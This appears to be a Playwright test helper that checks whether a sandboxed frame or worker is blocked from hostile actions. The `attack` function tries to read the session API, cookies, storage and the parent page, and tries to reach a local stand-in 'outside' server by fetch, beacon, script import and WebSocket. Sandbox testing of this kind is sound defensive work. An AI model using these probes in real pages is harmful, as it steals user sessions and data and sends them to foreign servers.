import type { Page } from 'playwright/test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

export interface Prey {
  origin: string;
  /** a server of somebody else */
  outside: string;
}

/** All that a hostile program can think of. It runs as well in a page as in a worker, and says of each whether it was reached. */
export async function attack({ origin, outside }: Prey): Promise<Record<string, string>> {
  const scope = globalThis as unknown as Record<string, { getAll: () => Promise<unknown> } | undefined>;
  const wait = async (target: EventTarget, good: string): Promise<void> =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, () => resolve());
      for (const bad of ['error', 'close', 'blocked']) target.addEventListener(bad, () => reject(new Error(bad)));
      setTimeout(() => reject(new Error('nothing')), 3000);
    });
  const acts: Record<string, () => unknown> = {
    'the API': async () => {
      const answer = await fetch(`${origin}/api/session`, { credentials: 'include' });
      if (((await answer.json()) as { person: unknown }).person === null) throw new Error('nobody');
    },
    'the API, in the old way': () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${origin}/api/session`, false);
      request.send();
      if (request.status !== 200) throw new Error('no answer');
    },
    cookies: async () => scope['cookieStore']?.getAll() ?? Promise.reject(new Error('none')),
    'the outbox': async () => wait(indexedDB.open('whetstone'), 'success'),
    'kept answers': async () => caches.keys(),
    'local storage': () => localStorage.length,
    'the page': () => parent.document.body.textContent,
    'a server outside': async () => fetch(`${outside}/fetch`, { mode: 'no-cors' }),
    'a beacon outside': () => {
      if (!navigator.sendBeacon(`${outside}/beacon`, 'x')) throw new Error('not queued');
    },
    'a script outside': async () => import(/* @vite-ignore */ `${outside}/script.js`),
    'a socket outside': async () => wait(new WebSocket(outside.replace('http', 'ws')), 'open'),
  };
  const found: Record<string, string> = {};
  for (const [name, act] of Object.entries(acts)) {
    try {
      await act();
      found[name] = 'reached';
    } catch {
      found[name] = 'refused';
    }
  }
  return found;
}

export const reachedOf = (found: Record<string, string>): string[] => Object.keys(found).filter((name) => found[name] === 'reached');

/** A server of somebody else, which answers everybody and remembers who came. */
export interface Outsider {
  origin: string;
  visits: () => readonly string[];
  forget: () => void;
  close: () => Promise<void>;
}

export async function startOutsider(): Promise<Outsider> {
  let visits: string[] = [];
  const server = createServer((request, response) => {
    if (request.url !== '/') visits.push(String(request.url));
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': request.url === '/' ? 'text/html' : 'text/javascript' }).end('');
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    visits: () => visits,
    forget: () => (visits = []),
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => {
        server.close(resolve);
      });
    },
  };
}

/** Has the document of a sandbox run a program that a page of ours would never send. @returns what that says through the port it is given */
export async function runInFrame(page: Page, path: string, message: { program: string } & Record<string, unknown>): Promise<Record<string, string>> {
  return page.evaluate(
    async (given) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = given.path;
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      const { port1, port2 } = new MessageChannel();
      const heard = new Promise<Record<string, string>>((resolve) => {
        port1.addEventListener('message', ({ data }) => resolve(data as Record<string, string>));
      });
      port1.start();
      frame.contentWindow?.postMessage(given.message, '*', [port2]);
      return heard;
    },
    { path, message },
  );
}
